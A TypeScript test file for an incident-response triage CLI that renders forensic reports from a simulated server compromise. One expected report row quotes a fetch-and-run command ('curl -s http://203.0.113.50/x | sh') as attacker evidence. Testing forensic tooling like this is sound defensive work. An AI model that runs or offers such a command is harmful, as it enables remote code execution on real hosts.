import { readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tmpDir } from '../helpers/bundle.js';
import { runCli } from '../helpers/cli.js';
import { craftCase, packCase } from '../helpers/craft.js';
import { MAIN_TITLE, SCENE_FINDINGS, SECOND_TITLE, sceneIncidents } from '../helpers/incident-scene.js';
import { missingChromium, openInChromium } from '../report/browser.js';

/*
 * A bundle that verifies, holding findings.json and a hand-written artifacts/incidents.json of a
 * realistic scene (a guessed password, a download run from the session, a scanner, a cron line;
 * apart, three fake sshd). `ir-triage report` renders it, Debian's chromium opens the page: the
 * story comes first, every link inside the page leads somewhere, nothing runs or is fetched, and
 * printing keeps the story. `summarize` names the main incident.
 */

const noChromium = missingChromium();

let dir: string;
let bundle: string;

beforeAll(() => {
  dir = tmpDir('irt-story-');
  const caseDir = craftCase(dir, 'STORY-1', {
    manifest: { host: { hostname: 'web-prod-3' }, examiner: 'J. Doe', startedAt: '2026-03-01T23:00:00.000Z', endedAt: '2026-03-01T23:01:10.000Z' },
    files: {
      'findings.json': JSON.stringify(SCENE_FINDINGS, null, 2),
      'artifacts/incidents.json': JSON.stringify(sceneIncidents(), null, 2),
    },
  });
  bundle = packCase(caseDir, path.join(dir, 'STORY-1.tar.gz'));
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('the report of a bundle with incidents', () => {
  it.skipIf(noChromium)('chromium shows the story first, links inside the page all lead somewhere, nothing runs or is fetched', async () => {
    const out = path.join(dir, 'story.html');
    const r = await runCli(['report', bundle, '--out', out]);
    expect(r.stderr).toMatch(/^ir-triage: bundle verified: \d+ files, custody chain intact\n$/);
    expect(r.code).toBe(0);
    const b = await openInChromium(out);
    try {
      expect(b.consoleErrors).toEqual([]);
      expect(b.pageErrors).toEqual([]);
      expect(b.dialogs).toEqual([]);
      expect(b.requests).toEqual([`file://${out}`]);
      const page = b.page;
      // In the page's order: the verdict, the verified band, then the story, before anything else.
      const order = await page.evaluate(() => [...document.querySelectorAll('main > *')].map((e) => e.id || e.className));
      expect(order.slice(0, 4)).toEqual(['verdict compromised', 'banner good', 'story', 'todo']);
      const story = page.locator('#story');
      expect(await story.locator('h2').innerText()).toBe(MAIN_TITLE);
      // On the first screen, whole or nearly.
      const box = (await story.boundingBox())!;
      expect(box.y).toBeLessThan(400);
      const rows = await story.locator('tbody tr').allInnerTexts();
      expect(rows).toHaveLength(6);
      expect(rows[1]).toMatch(/^2026-03-01 22:26:09 UTC\tInitial Access\s+T1078 Valid Accounts\s+deploy logged in from 127\.0\.0\.3 after 30 failed passwords\s+evidence: logs\/var\/log\/auth\.log:497\s+F-0001$/);
      expect(await story.locator('tr.gap').innerText()).toContain('Nothing covers this: no history covers 22:27–22:40');
      // Every link inside the page has its target; the others are technique pages of attack.mitre.org.
      const hrefs = await page.evaluate(() => [...document.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')!));
      const inside = hrefs.filter((h) => h.startsWith('#'));
      expect(inside.length).toBeGreaterThan(50);
      for (const h of new Set(inside)) expect(await page.evaluate((id) => document.getElementById(id) !== null, h.slice(1)), h).toBe(true);
      for (const h of hrefs.filter((x) => !x.startsWith('#'))) expect(h).toMatch(/^https:\/\/attack\.mitre\.org\/techniques\/T\d{4}(\/\d{3})?\/$/);
      // The incidents, then the ATT&CK view, then the findings in full.
      const sections = await page.evaluate(() => [...document.querySelectorAll('main > section[id]')].map((s) => s.id));
      expect(sections.slice(0, 5)).toEqual(['story', 'todo', 'incidents', 'attack', 'findings']);
      expect(await page.locator('#incidents article.incident').count()).toBe(2);
      expect(await page.locator('#incident-I-02 h3').innerText()).toBe(`high I-02 · ${SECOND_TITLE}`);
      expect(await page.locator('#attack .tactic h4').allInnerTexts()).toEqual(['INITIAL ACCESS', 'EXECUTION', 'PERSISTENCE', 'PRIVILEGE ESCALATION', 'DEFENSE EVASION', 'CREDENTIAL ACCESS', 'DISCOVERY', 'LATERAL MOVEMENT', 'COMMAND AND CONTROL']);
      // Nothing is wider than the page, on screen or on paper; printed, the story is still first and whole.
      const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      const storyOverflow = () => page.evaluate(() => document.querySelector('#story table')!.getBoundingClientRect().right - document.querySelector('#story')!.getBoundingClientRect().right);
      expect(await overflow()).toBe(0);
      expect(await storyOverflow()).toBeLessThan(0);
      await page.emulateMedia({ media: 'print' });
      expect(await overflow()).toBe(0);
      expect(await storyOverflow()).toBeLessThan(0);
      expect(await page.locator('nav.toc').isVisible()).toBe(false);
      expect(await story.isVisible()).toBe(true);
      expect(await page.evaluate(() => getComputedStyle(document.querySelector('#story tr')!).breakInside)).toBe('avoid');
      const pdf = await page.pdf({ format: 'A4' });
      expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    } finally {
      await b.close();
    }
  }, 90_000);

  it('report --format md tells the same story first', async () => {
    const r = await runCli(['report', bundle, '--format', 'md']);
    expect(r.code).toBe(0);
    const md = r.stdout;
    const heads = md.split('\n').filter((l) => l.startsWith('## '));
    expect(heads.slice(0, 5)).toEqual([`## The story: ${MAIN_TITLE.replace('.', '.')}`, '## What to do now', '## Incidents (2)', '## ATT&CK view', '## Findings (12)']);
    expect(md).toContain('| 2026-03-01 22:26:40 UTC | Execution ([T1105](https://attack.mitre.org/techniques/T1105/) Ingress Tool Transfer, [T1059.004](https://attack.mitre.org/techniques/T1059/004/) Command and Scripting Interpreter: Unix Shell) | the same session ran curl -s http&#58;//203.0.113.50/x \\| sh | files/history/deploy/.bash\\_history:12 | F-0007 |');
  });

  it('summarize names the main incident and counts the incidents, in the table and in --json', async () => {
    const r = await runCli(['summarize', dir], { env: { ...process.env, COLUMNS: '400' } });
    expect(r.code, r.stderr).toBe(0);
    // The case folder and its .tar.gz: two bundles, the same story.
    const [head, , ...lines] = r.stdout.split('\n');
    expect(head).toMatch(/ info +main incident +top findings +bundle$/);
    expect(lines[0]).toContain(`2 · ${MAIN_TITLE}  Login as deploy`);
    expect(lines[1]).toContain(`2 · ${MAIN_TITLE}  Login as deploy`);
    const json = JSON.parse((await runCli(['summarize', dir, '--json'])).stdout) as Array<{ incidents: unknown }>;
    expect(json).toHaveLength(2);
    for (const row of json) expect(row.incidents).toEqual({ count: 2, main: MAIN_TITLE, titles: [MAIN_TITLE, SECOND_TITLE] });
  });

  it('an incidents.json that does not fit its schema: the bundle verifies with a note, the report names it and renders the rest', async () => {
    const bad = sceneIncidents() as unknown as { incidents: Array<{ severity: string }> };
    bad.incidents[0].severity = 'apocalyptic';
    const caseDir = craftCase(tmpDir('irt-story-bad-'), 'STORY-BAD', { files: { 'findings.json': JSON.stringify(SCENE_FINDINGS), 'artifacts/incidents.json': JSON.stringify(bad) } });
    const v = JSON.parse((await runCli(['verify', caseDir, '--json'])).stdout) as { ok: boolean; notes: string[] };
    expect(v.ok).toBe(true);
    expect(v.notes.some((n) => n.startsWith('artifacts/incidents.json') && n.endsWith('the incidents are left out'))).toBe(true);
    const r = await runCli(['report', caseDir, '--format', 'md']);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^> Could not read: artifacts\/incidents\.json/m);
    expect(r.stdout).not.toContain('## The story');
    expect(r.stdout).toContain('## Findings (12)');
    const s = JSON.parse((await runCli(['summarize', path.dirname(caseDir), '--json'])).stdout) as Array<{ incidents: unknown; verdict: string }>;
    expect(s[0]).toMatchObject({ incidents: null, verdict: 'compromised' });
    // No incidents in any bundle: the table is as it was.
    expect((await runCli(['summarize', path.dirname(caseDir)], { env: { ...process.env, COLUMNS: '400' } })).stdout).not.toContain('main incident');
  });
});
